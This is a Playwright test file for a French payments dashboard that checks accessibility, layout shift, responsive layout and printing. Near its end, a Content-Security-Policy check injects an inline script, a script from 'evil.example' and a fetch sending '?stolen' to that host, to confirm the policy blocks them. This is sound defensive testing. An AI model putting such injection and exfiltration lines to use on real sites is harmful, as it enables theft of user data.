"""Every page of a desk with orders to show, once, in both lights.

As axe-core sees it, with contrast, names and order of headings (WCAG 2.2 AA), as Chromium holds it to its
Content-Security-Policy, and how far it moves while it is built up.
"""

import re
from collections import Counter
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Locator, Page, expect

from tests.browser.conftest import follow, settle
from tests.conftest import wait_until
from tests.running import running

pytestmark = pytest.mark.browser

# Streamlit's own drawing of a figure's little chart has marks without a name.
NOT_OURS = [["[data-testid='stMetricChart']"], ["[data-testid='stSidebarCollapsedControl']"]]
# What another light may change.
CONTRAST = {"runOnly": ["color-contrast"]}
# Streamlit looks for the address it is mounted at, here too; the page is none the worse for it.
PROBES = ("/_stcore/health", "/_stcore/host-config")
VIOLATIONS = """document.addEventListener("securitypolicyviolation", event => console.error(
    `${event.violatedDirective} forbids ${event.blockedURI} in ${event.sourceFile}:${event.lineNumber}`))"""

# By how much of the page what was seen has moved: to 0.1 is good, from 0.25 poor (https://web.dev/articles/cls).
SHIFTS = """window.shifted = 0
new PerformanceObserver(list => list.getEntries().forEach(shift => {
    if (!shift.hadRecentInput) window.shifted += shift.value
})).observe({type: "layout-shift", buffered: true})"""
MOST_SHIFTED = 0.15

# Of which of the parts something is cut off.
CUT_OFF = "parts => parts.filter(part => part.scrollWidth > part.clientWidth).length"
# Whether an open panel is what is seen where this lies.
COVERED = """what => {
    const {left, right, bottom} = what.getBoundingClientRect();
    return !!document.elementFromPoint((left + right) / 2, bottom - 2).closest("[data-testid=stPopoverBody]");
}"""


def on_overview(page: Page) -> None:
    """How the figures and lists of Today stand beside one another, and on a phone below one another."""
    # Three in a row would leave the fourth alone.
    for width, rows in {1440: [4], 1280: [4], 1100: [2, 2], 820: [2, 2], 390: [2, 2]}.items():
        page.set_viewport_size({"width": width, "height": 1000})
        wait_until(lambda rows=rows: by_row(page, "stMetric") == rows)
    # The lists below them, where a name would be cut off beside its state, amount and date.
    for width, rows in {1440: [2], 1366: [1, 1], 1280: [1, 1]}.items():
        page.set_viewport_size({"width": width, "height": 1000})
        wait_until(lambda rows=rows: by_row(page, "stColumn") == rows)
    # On a phone each name has a line of its own.
    page.set_viewport_size({"width": 390, "height": 1000})
    names = page.locator(".st-key-latest [data-testid=stPageLink] p")
    expect(names.first).to_be_visible()
    assert not names.evaluate_all(CUT_OFF)
    # What leads to a list is named for it, icon and arrow left out.
    expect(page.get_by_role("link", name="1 litige attend une réponse", exact=True)).to_be_visible()


def on_orders(page: Page) -> None:
    """The table and what is there in its place, what stands above it, and a file, which comes as one."""
    # Beside the menu a tablet has no room for the table: cards, as on a phone.
    page.set_viewport_size({"width": 820, "height": 1000})
    expect(page.get_by_test_id("stDataFrame")).to_be_hidden()
    # What is searched for is read while it is typed: the buttons beside it go below.
    page.set_viewport_size({"width": 1024, "height": 1000})
    expect(page.get_by_test_id("stDataFrame")).to_be_hidden()
    wait_until(lambda: page.get_by_label("Chercher", exact=True).bounding_box()["width"] > 240)
    # A panel that is open comes by above the badge of the mode as a phone's page is scrolled.
    page.set_viewport_size({"width": 390, "height": 844})
    page.get_by_role("button", name="Filtres").click()
    expect(page.get_by_test_id("stPopoverBody").get_by_text("Tout effacer")).to_be_attached()
    page.get_by_test_id("stMain").evaluate("main => main.scrollTo(0, 400)")
    wait_until(lambda: page.get_by_test_id("stPopoverBody").bounding_box()["y"] < 0)
    assert page.locator(".lumira-mode").evaluate(COVERED)
    page.keyboard.press("Escape")
    # Nor has it colours for who has their system choose those.
    page.set_viewport_size({"width": 1440, "height": 1000})
    page.emulate_media(forced_colors="active")
    expect(page.get_by_test_id("stDataFrame")).to_be_hidden()
    paints = page.locator("[data-variant=pills]").evaluate_all(
        "pills => pills.map(pill => getComputedStyle(pill).backgroundColor)"
    )
    assert paints[0] not in paints[1:]
    page.emulate_media(forced_colors="none")
    # As soon as there is a table, none of its usual columns has to be pushed into sight.
    page.set_viewport_size({"width": 1280, "height": 1000})
    table = page.get_by_test_id("stDataFrame").locator(".dvn-scroller")
    expect(table).to_be_visible()
    wait_until(lambda: table.evaluate("table => table.scrollWidth <= table.clientWidth"))
    page.get_by_role("button", name="Exporter").click()
    with page.expect_download() as download:
        page.get_by_test_id("stPopoverBody").get_by_role("button", name="CSV").click()
    assert download.value.path().stat().st_size > 0


def on_revenue(page: Page) -> None:
    """What saves a chart, what goes to paper, and the figures on a phone."""
    # What saves a chart says so in French, and stands on the page's own ground.
    save = page.locator(".modebar-btn").first
    expect(save).to_have_attribute("data-title", "Enregistrer le graphique")
    expect(page.locator(".modebar-group").first).to_have_css("background-color", "rgba(0, 0, 0, 0)")
    # On paper: dark on white from the night too, without the menu, and said once whether money is real.
    page.emulate_media(media="print", color_scheme="dark")
    expect(page.get_by_test_id("stSidebar")).to_be_hidden()
    expect(page.get_by_text("30 jours", exact=True)).to_be_hidden()
    expect(page.locator("html")).to_have_css("background-color", "rgb(255, 255, 255)")
    for drawn, paint in (("h1", "color"), ("[data-testid=stMetricValue]", "color"), (".xtick text", "fill")):
        expect(page.locator(drawn).first).to_have_css(paint, "rgb(27, 19, 38)")
    expect(page.locator(".lumira-mode")).to_have_css("position", "static")
    # Tables are pictures: those of the night are turned round.
    page.get_by_text("Les mêmes chiffres, en tableau").evaluate("words => words.closest('summary').click()")
    expect(page.locator("[data-testid=stDataFrame] canvas").first).to_have_css("filter", re.compile("invert"))
    page.emulate_media(media="screen", color_scheme="light")
    # None of the figures is cut off.
    page.set_viewport_size({"width": 390, "height": 1000})
    figures = page.locator(".st-key-four-figures")
    wait_until(lambda: by_row(figures, "stMetric") == [2, 2])
    values = figures.locator("[data-testid=stMetricValue] .stMarkdownEllipsis")
    assert not values.evaluate_all(CUT_OFF)


def on_month_close(page: Page) -> None:
    """A month on a phone: nothing has to be pushed aside."""
    page.set_viewport_size({"width": 390, "height": 1000})
    expect(page.locator(".st-key-narrow-month-lines table").first).to_be_visible()
    expect(page.locator(".st-key-wide-month-lines")).to_be_hidden()
    assert not page.locator(".lumira-cards li").evaluate_all(CUT_OFF)


def on_payouts(page: Page) -> None:
    """One payout, opened from its row and left again: what it consists of, beside its orders."""
    page.get_by_test_id("stDataFrame").first.click(position={"x": 60, "y": 55})
    expect(page.get_by_text("Le compte y est")).to_be_visible()
    assert list(found_by_axe(page)) == []
    expect(page.locator(".lumira-total dt").last).to_have_text("Total")
    page.get_by_role("button", name="Fichiers").click()
    with page.expect_download() as download:
        page.get_by_test_id("stPopoverBody").get_by_role("button", name="CSV").click()
    assert re.fullmatch(r"lumira-virement-\d{4}-\d\d-\d\d-po_\w+\.csv", download.value.suggested_filename)
    page.keyboard.press("Escape")
    # As a mouse comes: the table knows its rows by what moves over them.
    page.get_by_test_id("stDataFrame").first.hover(position={"x": 60, "y": 60})
    page.wait_for_timeout(200)
    page.get_by_test_id("stDataFrame").first.click(position={"x": 60, "y": 55})
    page.wait_for_url(re.compile(r"/order\?id=pi_"))
    page.go_back()
    page.get_by_text("Tous les virements").click()
    expect(page.get_by_text("Le compte y est")).to_have_count(0)
    expect(page.locator(".st-key-wide-payouts canvas").first).to_be_visible()
    assert "payout=" not in page.url


# Each page, something of it that is there only once its last part has loaded, and what else is looked at.
PAGES: dict[str, tuple[str, Callable[[Page], None] | None]] = {
    "/overview": ("a[href^='order?id=']", on_overview),
    "/orders": ("[data-testid=stDataFrame] canvas", on_orders),
    "/new-payment": ("[data-testid=stMainBlockContainer] button", None),
    "/revenue?range=year": (".js-plotly-plot .bars", on_revenue),
    "/month-close?compared=yes": ("[data-testid=stMainBlockContainer] button", on_month_close),
    "/payouts": ("[data-testid=stDataFrame] canvas", on_payouts),
    "/webhooks": ("[data-testid=stMainBlockContainer] button", None),
    "/reconciliation": ("[data-testid=stMainBlockContainer] button", None),
    "/account": ("h1", None),
    "/staff": ("h1", None),
    "/audit": ("[data-testid=stDataFrame] canvas", None),
    "/system": ("h1", None),
}


@pytest.mark.long(60)
def test_every_page_can_be_read_by_everyone_and_keeps_to_its_policy(chromium: Browser, tmp_path):
    complaints: list[str] = []
    unreadable: list[str] = []
    shifted: dict[str, float] = {}
    # A demo, whose pages have orders to show.
    with running(tmp_path / "home", "-m lumira run --demo") as server:
        url = server.url
        context = chromium.new_context(
            locale="fr-FR", color_scheme="dark", viewport={"width": 1440, "height": 1000}
        )
        context.set_default_timeout(60_000)
        context.add_init_script(VIOLATIONS)
        context.add_init_script(SHIFTS)
        page = context.new_page()
        listen(page, complaints)
        page.goto(f"{url}/overview")
        order = page.locator("a[href^='order?id=']").first.get_attribute("href")
        for path, (part, look) in {**PAGES, f"/{order}": ("h1", None)}.items():
            page.goto(url + path)
            settle(page)
            expect(page.locator(part).first).to_be_attached()
            shifted[path] = page.evaluate("shifted")
            for light, rules in (("dark", {}), ("light", CONTRAST)):
                page.emulate_media(color_scheme=light)
                unreadable += [f"{path} in the {light}: {what}" for what in found_by_axe(page, rules)]
            if look:
                look(page)
                page.set_viewport_size({"width": 1440, "height": 1000})
        # On a phone more stands in lines of its own, whose places are kept as well.
        page.set_viewport_size({"width": 390, "height": 844})
        for path in ("/overview", "/audit", "/new-payment"):
            page.goto(url + path)
            settle(page)
            shifted[f"{path} on a phone"] = page.evaluate("shifted")
        page.set_viewport_size({"width": 1440, "height": 1000})
        # The role that is tried stays when the language changes, in which it has another name.
        page.goto(f"{url}/orders")
        settle(page)
        menu = page.get_by_test_id("stSidebar")
        menu.get_by_role("combobox", name="Rôle essayé").click()
        page.get_by_role("option", name="Consultation").click()
        page.wait_for_url("**/orders?role=staff")
        expect(menu.get_by_role("link", name="Revenus")).to_have_count(0)
        menu.get_by_text("English").click()
        expect(page.get_by_role("heading", name="Orders", exact=True)).to_be_visible()
        follow(page, "Webhooks")
        # The page is loaded anew from its address.
        page.reload()
        settle(page)
        expect(page.get_by_role("heading", level=1, name="Webhooks")).to_be_visible()
        expect(menu.get_by_role("link", name="Revenue")).to_have_count(0)
        assert complaints == []
        assert unreadable == []
        assert {path for path, shift in shifted.items() if shift > MOST_SHIFTED} == set(), shifted

        # What would be an attack: a script in the page, one from elsewhere, and text that becomes one.
        page.evaluate(
            """() => {
                const inline = document.createElement("script")
                inline.textContent = "window.attacked = true"
                const foreign = document.createElement("script")
                foreign.src = "https://evil.example/x.js"
                document.body.append(inline, foreign)
                fetch("https://evil.example/?stolen").catch(() => {})
            }"""
        )
        page.wait_for_timeout(300)
        assert page.evaluate("window.attacked") is None
        assert sum("forbids" in complaint for complaint in complaints) == 3, complaints
        context.close()


def found_by_axe(page: Page, rules: dict[str, list[str]] | None = None) -> Iterator[str]:
    """What axe-core finds wrong, by all its rules or these, where, and how it is mended."""
    # What is drawn anew fades, and what is about to be is dimmed; a contrast is that of what stands.
    page.add_style_tag(
        content="* { transition: none !important; animation: none !important }"
        "[data-stale=true] { opacity: 1 !important }"
    )
    settle(page)
    # The house's own look comes a moment after the page.
    expect(page.locator(".st-key-begin-payment p").first).to_have_css("color", "rgb(27, 19, 38)")
    # Asked for nothing else, it is half as long about it.
    options = {"resultTypes": ["violations"], **(rules or {})}
    result = Axe().run(page, context={"exclude": NOT_OURS}, options=options)
    for violation in result.response["violations"]:
        for node in violation["nodes"]:
            yield f"{violation['id']}: {node['html'][:200]} {node['failureSummary']}"


def by_row(page: Page | Locator, test_id: str) -> list[int]:
    """How many of the page's parts of this kind stand beside one another, row by row."""
    tops = page.get_by_test_id(test_id).evaluate_all(
        "parts => parts.map(part => Math.round(part.getBoundingClientRect().top))"
    )
    return list(Counter(tops).values())


def listen(page: Page, complaints: list[str]) -> None:
    """Notes whatever the page complains about."""

    def note(message) -> None:
        if message.type == "error" and not urlsplit(message.location["url"]).path.endswith(PROBES):
            complaints.append(f"{page.url}: {message.text}")

    page.on("console", note)
    page.on("pageerror", lambda error: complaints.append(f"{page.url}: {error}"))
